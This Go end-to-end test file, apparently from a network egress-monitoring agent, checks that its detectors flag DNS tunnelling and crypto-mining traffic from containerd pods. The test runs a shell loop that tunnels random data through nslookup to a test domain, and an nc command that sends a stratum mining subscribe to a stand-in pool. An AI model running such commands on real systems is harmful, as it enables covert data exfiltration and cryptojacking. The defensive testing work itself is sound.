//go:build linux

package agent

import (
	"bufio"
	"context"
	"fmt"
	"log/slog"
	"net"
	"net/http"
	"net/netip"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus"

	"github.com/egresswatch/egresswatch/baseline"
	"github.com/egresswatch/egresswatch/detect"
	"github.com/egresswatch/egresswatch/internal/testenv"
	"github.com/egresswatch/egresswatch/workload"
)

// The payload test's corner of the fake internet: a tunnel domain the DNS
// server answers for (every subdomain), and a mining pool on 3333.
const (
	e2eTunnelDomain = "tunnel.test"
	e2ePoolIP       = "198.51.100.77"
	e2ePoolPort     = 3333
)

// TestE2EPayloadDetectors runs the agent against real containerd pods.
// After learning, one pod starts tunnelling through DNS (long random names
// under one domain) and another sends a stratum subscribe to a pool: each
// is flagged with the right kind, naming its pod, and nothing else is.
func TestE2EPayloadDetectors(t *testing.T) {
	c := testenv.StartContainerd(t)
	api, dns, pool := netip.MustParseAddr(e2eAPIIP), netip.MustParseAddr(e2eDNSIP), netip.MustParseAddr(e2ePoolIP)
	remote := c.StartRemote(t, testenv.RemoteSpec{
		Addrs:   []netip.Addr{api, dns, pool},
		DNS:     dns,
		Records: map[string]netip.Addr{e2eAPIName: api, e2eTunnelDomain: api},
	})
	remote.ServeHTTP(t, e2eAPIIP+":80", http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		_, _ = fmt.Fprintln(w, "api")
	}))
	subscribes := servePool(t, remote.Listen(t, "tcp", netip.AddrPortFrom(pool, e2ePoolPort).String()))

	tunnelID := workload.Identity{Namespace: "shop", Kind: workload.KindDeployment, Name: "reports"}
	minerID := workload.Identity{Namespace: "shop", Kind: workload.KindDeployment, Name: "thumbnails"}
	tunneler := c.RunPod(t, payloadPod("reports-6b7c8d9e0f-qwert", "reports", "6b7c8d9e0f"))
	miner := c.RunPod(t, payloadPod("thumbnails-5a6b7c8d9e-asdfg", "thumbnails", "5a6b7c8d9e"))
	targets := []*e2eTarget{
		{label: "tunneler", containerID: tunneler.ContainerID("web"), pod: tunneler.Name, workload: tunnelID},
		{label: "miner", containerID: miner.ContainerID("web"), pod: miner.Name, workload: minerID},
	}
	for _, tg := range targets {
		tg.ifindex = hostIfindex(t, c, tg.containerID)
	}

	ea := startE2EAgent(t, c, remote, &targets)
	a, base := ea.Agent, ea.base
	waitFor(t, 15*time.Second, "both pods' veths captured and attributed", func() bool {
		st, ok := e2eStatus(t, base)
		return ok && allAttributed(st, targets)
	})

	// Learning: both call the API, by name.
	for _, tg := range targets {
		c.Exec(t, tg.containerID, "sh", "-c", "for i in 1 2 3; do wget -q -O - http://"+e2eAPIName+"/ >/dev/null || exit 1; done")
	}
	waitFor(t, 20*time.Second, "both workloads monitoring", func() bool {
		st, ok := e2eStatus(t, base)
		return ok && workloadState(st, tunnelID.Key()) == string(baseline.StateMonitoring) &&
			workloadState(st, minerID.Key()) == string(baseline.StateMonitoring)
	})

	// The tunnel: 40 lookups of 48 random hex digits under the domain, as
	// a DNS tunnel client sends its data upstream.
	c.Exec(t, targets[0].containerID, "sh", "-c",
		"for i in $(seq 1 40); do nslookup x$(od -An -tx1 -N24 /dev/urandom | tr -d ' \\n').up."+e2eTunnelDomain+" "+e2eDNSIP+" >/dev/null 2>&1; done; true")
	// The miner: one stratum subscribe line to the pool.
	out := c.Exec(t, targets[1].containerID, "sh", "-c",
		`printf '{"id":1,"method":"mining.subscribe","params":["cpuminer-opt/3.8.8"]}\n' | timeout 5 nc `+e2ePoolIP+" "+fmt.Sprint(e2ePoolPort)+"; true")
	if !strings.Contains(out, `"result"`) {
		t.Fatalf("the pool answered %q", out)
	}
	if got := <-subscribes; !strings.Contains(got, "mining.subscribe") {
		t.Fatalf("the pool read %q", got)
	}

	var tunnel, mining detect.Anomaly
	waitFor(t, 30*time.Second, "the dns_tunnel and crypto_mining anomalies", func() bool {
		for _, an := range e2eAnomalies(t, a) {
			switch an.Kind {
			case detect.KindDNSTunnel:
				tunnel = an
			case detect.KindCryptoMining:
				mining = an
			}
		}
		return tunnel.ID != "" && mining.ID != ""
	})
	if tunnel.Workload != tunnelID || tunnel.Container.Pod != tunneler.Name || tunnel.Destination.Name != e2eTunnelDomain ||
		tunnel.Destination.Port != 53 || tunnel.Destination.IP != e2eDNSIP || tunnel.Labels[detect.LabelUniqueNames] == "" {
		t.Errorf("dns_tunnel anomaly = %+v", tunnel)
	}
	if mining.Workload != minerID || mining.Container.Pod != miner.Name || mining.Destination.IP != e2ePoolIP ||
		mining.Destination.Port != e2ePoolPort || mining.Severity != detect.SeverityHigh ||
		mining.Labels[detect.LabelMethod] != "mining.subscribe" || mining.Labels[detect.LabelAgent] != "cpuminer-opt/3.8.8" ||
		mining.Labels[detect.LabelPoolPort] != "true" {
		t.Errorf("crypto_mining anomaly = %+v", mining)
	}
	for _, an := range e2eAnomalies(t, a) {
		switch {
		case an.Kind == detect.KindDNSTunnel && an.ID != tunnel.ID, an.Kind == detect.KindCryptoMining && an.ID != mining.ID:
			t.Errorf("a second %s anomaly: %s", an.Kind, an.Summary)
		case an.Kind == detect.KindNewDestination && an.Destination.Port == e2ePoolPort:
			t.Errorf("the pool was also reported as a new destination: %s", an.Summary)
		}
	}
	if err := ea.stop(); err != nil {
		t.Fatalf("Run: %v", err)
	}
}

// e2eAgent is an agent the end-to-end tests run in-process.
type e2eAgent struct {
	*Agent
	cfg  Config
	base string       // its HTTP API, "http://host:port"
	stop func() error // stops it and returns Run's error; the test's end calls it otherwise
}

// startE2EAgent runs the agent the way the end-to-end tests do: on the CNI
// bridge's host veths of containerd c (other tests' veths and the remote
// namespace's are not ours), learning for 6 s with intervals of 2 s, and
// waits until it is ready. If the test fails, what the agent saw of
// *targets is logged before it stops.
func startE2EAgent(t *testing.T, c *testenv.Containerd, remote *testenv.Remote, targets *[]*e2eTarget) *e2eAgent {
	t.Helper()
	cfg := DefaultConfig()
	cfg.NodeName = "e2e-node"
	cfg.DataDir = t.TempDir()
	cfg.Listen = "127.0.0.1:0"
	cfg.LogLevel = "debug"
	cfg.Containerd.Socket = c.Socket
	cfg.Capture.Include = []string{"veth*"}
	cfg.Capture.HoldTimeout = Duration(3 * time.Second)
	cfg.Learning.Period = Duration(6 * time.Second)
	cfg.Learning.StabilityWindow = 0
	cfg.Flows.Interval = Duration(2 * time.Second)
	log := slog.New(slog.NewTextHandler(testWriter{t}, &slog.HandlerOptions{Level: slog.LevelDebug}))
	a, err := New(cfg, log, prometheus.NewRegistry())
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- a.Run(ctx) }()
	var once sync.Once
	var runErr error
	stop := func() error {
		once.Do(func() {
			if t.Failed() {
				dumpE2E(t, a, remote, *targets)
			}
			cancel()
			runErr = <-done
		})
		return runErr
	}
	t.Cleanup(func() { _ = stop() })
	ea := &e2eAgent{Agent: a, cfg: cfg, base: "http://" + a.Addr(), stop: stop}
	waitFor(t, 10*time.Second, "ready", func() bool { code, _ := get(t, ea.base+"/readyz"); return code == 200 })
	return ea
}

func payloadPod(name, app, hash string) testenv.PodSpec {
	return testenv.PodSpec{
		Name: name, Namespace: "shop",
		Labels:     map[string]string{"app": app, "pod-template-hash": hash},
		DNSServers: []string{e2eDNSIP},
		Containers: []testenv.ContainerSpec{{Name: "web"}},
	}
}

// servePool answers stratum clients the way a pool does: one result line
// per request line. The first line of each connection is sent on the
// returned channel. The accept loop ends when the listener is closed at
// the test's end, and the test waits for it and its connections.
func servePool(t *testing.T, ln net.Listener) <-chan string {
	t.Helper()
	lines := make(chan string, 4)
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			wg.Add(1)
			go func() {
				defer wg.Done()
				defer conn.Close()
				_ = conn.SetDeadline(time.Now().Add(10 * time.Second))
				sc := bufio.NewScanner(conn)
				if !sc.Scan() {
					return
				}
				select {
				case lines <- sc.Text():
				default:
				}
				_, _ = fmt.Fprintln(conn, `{"id":1,"result":[[["mining.notify","ae6812eb4cd7735a"]],"08000002",4],"error":null}`)
			}()
		}
	}()
	t.Cleanup(func() { _ = ln.Close(); wg.Wait() })
	return lines
}
